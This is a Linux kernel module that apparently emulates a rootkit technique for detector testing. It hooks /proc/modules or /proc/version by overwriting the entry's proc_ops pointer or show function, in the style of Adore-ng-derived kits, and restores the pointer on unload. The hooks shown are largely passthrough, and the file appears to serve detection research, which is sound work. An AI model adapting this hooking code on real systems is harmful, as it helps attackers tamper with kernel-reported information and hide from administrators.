// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a file of /proc gets operations of the module's data (how=table), or what shows it is the module's function
 * (how=show) or code of nobody (how=nobody). Who: Adore-ng's successors; kits that hide from /proc/modules, /proc/version and the like.
 * Changes: the entry of /proc/version (show) or /proc/modules (table). Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/delay.h>
#include <linux/proc_fs.h>
#include <linux/rbtree.h>
#include <linux/seq_file.h>

KERNEL_SYMBOL(proc_root);
NOBODY_SYMBOLS;
VARIANT("table");
/* Where members of struct proc_dir_entry stand (fs/proc/internal.h is not among the headers); from the kernel's BTF. */
static int node_offset, name_offset, subdir_offset, ops_offset, show_offset;
module_param(node_offset, int, 0);
module_param(name_offset, int, 0);
module_param(subdir_offset, int, 0);
module_param(ops_offset, int, 0);
module_param(show_offset, int, 0);

static struct proc_ops copy;
static void **place, *original;

static noinline int hooked_show(struct seq_file *file, void *what)
{
	return ((int (*)(struct seq_file *, void *))original)(file, what);
}

static int __init start(void)
{
	static const u8 code[] = RETURNS(0);
	const char *wanted = HOW("table") ? "modules" : "version";
	struct rb_node *node;

	if (!proc_root_at || !name_offset || !ops_offset)
		return -ENOENT;
	for (node = rb_first((struct rb_root *)(proc_root_at + subdir_offset)); node; node = rb_next(node)) {
		char *entry = (char *)node - node_offset;

		if (strcmp(*(char **)(entry + name_offset), wanted) != 0)
			continue;
		place = (void **)(entry + (HOW("table") ? ops_offset : show_offset));
		original = *place;
		copy = *(struct proc_ops *)*(void **)(entry + ops_offset);
		*place = HOW("table")	 ? (void *)&copy
			 : HOW("nobody") ? NOBODY_START(code, sizeof(code))
					 : (void *)hooked_show;
		return 0;
	}
	return -ESRCH;
}

static void __exit stop(void)
{
	*place = original;
	msleep(50);
	NOBODY_STOP();
}

ATTACK(start, stop);
